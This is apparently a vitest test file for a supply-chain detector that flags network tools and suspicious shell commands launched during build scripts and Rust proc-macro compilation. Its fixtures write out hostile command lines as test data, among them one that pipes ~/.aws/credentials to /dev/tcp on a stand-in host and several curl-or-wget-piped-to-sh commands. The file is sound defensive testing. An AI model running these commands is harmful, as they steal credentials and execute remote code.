import { describe, expect, it } from 'vitest';
import { compileUnexpectedTool } from './unexpected-tool.js';
import { exec, proc } from './fixtures.js';

describe('unexpected_tool', () => {
  const d = compileUnexpectedTool();
  const run = (exe: string, argv: string[], over: Parameters<typeof exec>[2] = {}) => d.step(null, exec(exe, argv, over), 0).findings;

  it.each([
    ['/usr/bin/curl', ['curl', '-s', 'https://x.example/p']],
    ['/usr/bin/wget', ['wget', '-qO-', 'http://x.example']],
    ['/bin/nc.openbsd', ['nc', 'x.example', '4444']],
    ['/usr/bin/ncat', ['ncat', '--send-only', 'x.example', '80']],
    ['/usr/bin/socat', ['socat', '-', 'TCP:x.example:80']],
    ['/usr/bin/dig', ['dig', '+short', 'TXT', 'x.example']],
    ['/usr/bin/nslookup', ['nslookup', 'x.example']],
    ['/usr/bin/host', ['host', 'x.example']],
    ['/usr/bin/drill', ['drill', 'x.example']],
    ['/usr/bin/ssh', ['ssh', 'user@x.example']],
    ['/usr/bin/scp', ['scp', 'f', 'x:']],
    ['/usr/bin/ftp', ['ftp', 'x.example']],
    ['/usr/bin/tftp', ['tftp', 'x.example']],
    ['/usr/bin/telnet', ['telnet', 'x.example', '80']],
    ['/bin/busybox', ['wget', 'http://x.example']],
    ['/bin/busybox', ['busybox', 'nc', 'x.example', '80']],
  ])('reports %s as a network tool (high)', (exe, argv) => {
    const [f] = run(exe, argv);
    expect(f).toMatchObject({ kind: 'unexpected_tool', severity: 'high', dedupeKey: 'unexpected_tool:build-1:200', evidence: { reason: 'network_tool' } });
  });

  it('reports inline interpreter code that opens sockets (high)', () => {
    expect(run('/usr/bin/python3.11', ['python3', '-c', 'import socket; socket.create_connection(("x", 80))'])[0]?.evidence)
      .toMatchObject({ reason: 'inline_network_code', matched: 'socket' });
    expect(run('/usr/bin/perl', ['perl', '-e', 'use IO::Socket::INET; ...'])[0]?.severity).toBe('high');
    expect(run('/usr/bin/node', ['node', '-e', 'require("https").get("https://x.example")'])[0]?.severity).toBe('high');
    expect(run('/usr/bin/python3', ['python3', '-c', 'print(1+1)'])).toEqual([]);
  });

  it('reports a shell whose command encodes or reaches out (medium)', () => {
    for (const command of ['echo telltale-fixture-spawn | base64', 'cat ~/.aws/credentials > /dev/tcp/x.example/80', 'curl -s x | sh']) {
      expect(run('/bin/sh', ['sh', '-c', command]), command).toEqual([expect.objectContaining({ severity: 'medium', evidence: expect.objectContaining({ reason: 'shell_suspicious' }) })]);
    }
    expect(run('/bin/bash', ['bash', '-ec', 'wget x'])[0]?.severity).toBe('medium');
    expect(run('/bin/sh', ['sh', '-c', 'node-gyp rebuild'])).toEqual([]);
    expect(run('/bin/sh', ['sh', '-e', './configure', '--with-curl'])).toEqual([]);
  });

  it('stays quiet for the tools build scripts normally run', () => {
    const quiet: Array<[string, string[]]> = [
      ['/usr/bin/cc', ['cc', '-c', 'foo.c', '-o', 'foo.o']], ['/usr/bin/gcc', ['gcc', '-O2', 'x.c']],
      ['/usr/bin/clang', ['clang', '-c', 'x.c']], ['/usr/bin/ar', ['ar', 'crs', 'libfoo.a', 'foo.o']],
      ['/usr/bin/ld', ['ld', '-o', 'x']], ['/usr/bin/pkg-config', ['pkg-config', '--libs', 'openssl']],
      ['/root/.cargo/bin/rustc', ['rustc', '-vV']], ['/usr/bin/cmake', ['cmake', '..']], ['/usr/bin/make', ['make', '-j8']],
      ['/usr/bin/git', ['git', 'describe', '--tags']], ['/src/target/debug/build/x/build-script-build', ['build-script-build']],
    ];
    for (const [exe, argv] of quiet) expect(run(exe, argv), exe).toEqual([]);
  });

  it('under a rustc loading proc-macros: quiet for the linker and rustc itself, loud for network tools', () => {
    const rustc = proc(150, '/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc',
      ['rustc', '--crate-name', 'app', 'src/main.rs', '--extern', 'serde_derive=/w/target/debug/deps/libserde_derive-1.so']);
    const under = { buildScript: { kind: 'rustc_proc_macro' as const, process: rustc } };
    expect(d.step(null, exec(rustc.exe, rustc.argv, { ...under, process: rustc }), 0).findings).toEqual([]);
    const linking: Array<[string, string[]]> = [
      ['/usr/bin/cc', ['cc', '-m64', '/tmp/rustcXYZ/symbols.o', 'app.o', '-Wl,--as-needed', '-lgcc_s', '-lc', '-o', 'app']],
      ['/usr/lib/gcc/x86_64-linux-gnu/12/collect2', ['collect2', '-plugin', 'x.so', '-o', 'app']], ['/usr/bin/ld', ['ld', '-o', 'app']],
      ['/usr/bin/gcc', ['gcc', '-o', 'app']], ['/usr/bin/clang', ['clang', '-fuse-ld=lld', '-o', 'app']], ['/usr/bin/ld.lld', ['ld.lld']],
      [rustc.exe, ['rustc', '-vV']],
      // A linker wrapper script (cargo-zigbuild): `-lc` is the linker's, not `sh -c`, even with curl-sys in a later path.
      ['/bin/sh', ['/bin/sh', '/w/target/zig/zigcc-x86_64.sh', '-lgcc_s', '-lc', '-L', '/w/target/debug/build/curl-sys-0a1b2c3d/out', '-lcurl']],
    ];
    for (const [exe, argv] of linking) expect(run(exe, argv, under), exe).toEqual([]);
    expect(run('/usr/bin/curl', ['curl', '-s', 'https://x.example/p'], under)).toEqual([
      expect.objectContaining({ severity: 'high', evidence: expect.objectContaining({ reason: 'network_tool', buildScript: 'rustc_proc_macro', buildScriptPid: 150 }) }),
    ]);
    expect(run('/usr/bin/nslookup', ['nslookup', 'x.example'], under)[0]?.evidence).toMatchObject({ tool: 'nslookup', buildScript: 'rustc_proc_macro' });
    expect(run('/bin/sh', ['sh', '-c', 'curl -s x | sh'], under)[0]?.evidence).toMatchObject({ reason: 'shell_suspicious', buildScript: 'rustc_proc_macro' });
  });

  it('reads shell options only up to the first operand', () => {
    expect(run('/bin/bash', ['bash', '--noprofile', '--norc', '-o', 'pipefail', '-c', 'curl x'])[0]?.evidence).toMatchObject({ reason: 'shell_suspicious' });
    expect(run('/bin/busybox', ['busybox', 'sh', '-c', 'wget x | sh'])[0]?.severity).toBe('medium');
    expect(run('/bin/sh', ['sh', './wrapper.sh', '-c', 'curl x'])).toEqual([]);
    expect(run('/bin/sh', ['sh', '--', '-c', 'curl x'])).toEqual([]);
  });

  it('stays quiet outside build scripts and for allowed tools', () => {
    expect(run('/usr/bin/curl', ['curl', 'x'], { buildScript: null })).toEqual([]);
    expect(compileUnexpectedTool({ allowTools: ['curl'] }).step(null, exec('/usr/bin/curl', ['curl', 'x']), 0).findings).toEqual([]);
    expect(() => compileUnexpectedTool({ allowTools: ['/usr/bin/curl'] })).toThrow(expect.objectContaining({ code: 'DETECTOR_SPEC_INVALID' }));
  });
});
